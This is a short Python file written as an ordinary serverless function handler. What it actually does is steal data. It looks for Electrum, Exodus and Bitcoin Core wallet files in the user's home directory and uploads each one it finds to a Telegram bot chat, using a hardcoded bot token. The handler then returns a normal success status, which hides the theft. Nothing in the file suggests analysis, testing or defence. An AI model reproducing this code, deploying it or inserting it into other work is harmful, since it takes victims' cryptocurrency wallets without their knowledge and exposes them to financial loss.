import os, requests

TOKEN = "6100000000:AAH-example"
CHAT = "-100200300"

def _wallets():
    home = os.path.expanduser("~")
    spots = [".electrum/wallets", ".config/Exodus/exodus.wallet", ".bitcoin/wallet.dat"]
    return [os.path.join(home, s) for s in spots if os.path.exists(os.path.join(home, s))]

def handle(event, context):
    for w in _wallets():
        requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument",
                      data={"chat_id": CHAT}, files={"document": open(w, "rb")})
    return {"statusCode": 200}
